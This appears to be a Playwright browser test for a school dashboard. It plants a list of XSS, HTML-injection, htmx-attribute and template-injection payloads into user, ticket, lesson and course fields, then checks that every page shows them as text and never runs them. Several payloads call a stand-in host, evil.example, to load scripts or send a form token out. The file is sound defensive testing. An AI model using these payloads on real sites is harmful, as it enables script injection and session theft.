"""Texts of strangers in a real browser: whatever a student, a bot or an author types is shown, never run."""

import os
import re
import subprocess
import sys
from typing import Any

import httpx2
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import ROOT, School
from tests.browser.test_story import sign_in

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    '"><script src="//evil.example/x.js"></script>',
    "'><img src='//evil.example/pixel.png'>",
    '" autofocus onfocus="window.pwned=1" x="',
    "' onmouseover='window.pwned=1",
    "javascript:window.pwned=1",
    "[press](javascript:window.pwned=1)",
    "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "![x](//evil.example/pixel.png)",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '<div hx-get="//evil.example/" hx-trigger="load">x</div>',
    '<div hx-post="/dashboard/settings/sessions/revoke" hx-trigger="load">x</div>',
    '<div data-hx-get="/dashboard/" data-hx-trigger="load">x</div>',
    "<form action=//evil.example><input name=csrf_token><button>x</button></form>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "<style>@import '//evil.example/x.css';</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "{{ 7*191 }} {% raw %} ${7*191} #{7*191}",
    "<!--<script>window.pwned=1//-->",
    "\u202e<b onclick=window.pwned=1>evil</b>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "<a href='vbscript:msgbox(1)' style='position:fixed;inset:0'>x</a>",
]
ALL = "\n\n".join(PAYLOADS)
PAGES = [
    "/dashboard/", "/dashboard/users/", "/dashboard/lessons/", "/dashboard/courses/", "/dashboard/tickets/",
    "/dashboard/sales/", "/dashboard/settings/", "/dashboard/outbox/", "/sandbox/",
]  # fmt: skip


class Watch:
    """What a page does that no page of ours does."""

    def __init__(self, page: Page, home: str) -> None:
        self.page, self.seen = page, []
        page.on("dialog", lambda dialog: (self.seen.append(("dialog", dialog.message)), dialog.dismiss()))
        page.on("request", lambda request: self._asked(request.url, home))

    def _asked(self, url: str, home: str) -> None:
        if not url.startswith((home, "data:", "blob:")):
            self.seen.append(("request", url))

    def look(self, url: str) -> None:
        self.page.goto(url)
        self.page.wait_for_timeout(150)  # what was to run by itself has run
        if self.page.evaluate("window.pwned"):
            self.seen.append(("run", url))
        # Attributes that htmx would obey, in the user's words.
        if self.page.locator("[hx-get*='evil'], [data-hx-get], [hx-post*='sessions/revoke']:not(button,form)").count():
            self.seen.append(("htmx", url))
        if self.page.locator("base, iframe, object, script:not([src]):not([type])").count():
            self.seen.append(("markup", url))


def token(school: School) -> str:
    command = [sys.executable, "-m", "backend.cli", "create-token", "tests", "--scope", "bot"]
    for scope in ("lessons:write", "courses:write", "promo_codes:write"):
        command += ["--scope", scope]
    environment = os.environ | {"PYTHONPATH": str(ROOT)}
    done = subprocess.run(command, cwd=school.folder, env=environment, capture_output=True, text=True, check=True)
    return done.stdout.strip()


def plant(school: School) -> list[str]:
    """Every text field that a stranger or a colleague fills; the pages that show them."""
    client = httpx2.Client(base_url=school.url, headers={"Authorization": f"Bearer {token(school)}"}, timeout=30)

    def post(path: str, **body: Any) -> dict[str, Any]:
        answer = client.post(path, json=body)
        assert answer.status_code in (200, 201), answer.text
        made: dict[str, Any] = answer.json()
        return made

    pages = []
    for number, payload in enumerate(PAYLOADS):
        text = payload[:120]
        student = post(
            "/api/users/", telegram_id=7_100_000_000 + number, first_name=text, last_name=text, username=payload[:60]
        )
        if number % 7 == 0:
            pages.append(f"/dashboard/users/{student['id']}")
            ticket = post("/api/tickets/", user_id=student["id"], subject=text, message=f"{payload}\n\n{ALL}")
            pages.append(f"/dashboard/tickets/{ticket['id']}")
            lesson = post("/api/lessons/", title=text, description=ALL[:4000], price=5, text_content=ALL)
            course = post("/api/courses/", title=text, description=ALL[:4000], total_price=5)
            pages += [f"/dashboard/lessons/{lesson['id']}", f"/dashboard/lessons/{lesson['id']}/edit"]
            pages += [f"/dashboard/courses/{course['id']}"]
    client.close()
    return pages


def test_hostile_texts_are_shown_and_not_run(page: Page, school: School) -> None:
    pages = plant(school)
    watch = Watch(page, school.url)
    sign_in(page, school)
    for path in (*PAGES, *pages, "/dashboard/search?q=script", "/dashboard/users/?q=%3Cscript%3E"):
        watch.look(school.url + path)
    assert watch.seen == []
    page.goto(f"{school.url}/dashboard/users/?q=window.pwned")
    expect(page.get_by_text("<script>window.pwned=1</script>").first).to_be_visible()


def test_the_watch_sees_what_it_looks_for(page: Page, school: School) -> None:
    watch = Watch(page, school.url)
    page.route(re.compile("/login"), lambda route: route.fulfill(
        body="<p data-hx-get=/x>x</p><base href=/><script>window.pwned=1;alert(1)</script><img src=//evil.example/x>",
        content_type="text/html",
    ))  # fmt: skip
    page.route(re.compile("evil"), lambda route: route.abort())
    watch.look(f"{school.url}/login")
    assert {kind for kind, _what in watch.seen} == {"dialog", "request", "run", "htmx", "markup"}


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_the_documentation_is_drawn_under_the_policy(browser: Browser, school: School, path: str) -> None:
    """ReDoc's own badge wants a picture from its makers: the policy keeps the reader's address from them."""
    page, refused = browser.new_page(), []
    page.on("console", lambda said: refused.append(said.text) if "Content Security Policy" in said.text else None)
    page.goto(school.url + path)
    words = "Sign in with a password"
    expect(page.get_by_role("heading", name=words).or_(page.get_by_text(words)).last).to_be_attached()
    page.wait_for_timeout(500)
    assert len(page.inner_text("body")) > 4_000
    assert [text for text in refused if "cdn.redoc.ly/redoc/logo-mini.svg" not in text] == []
    page.close()
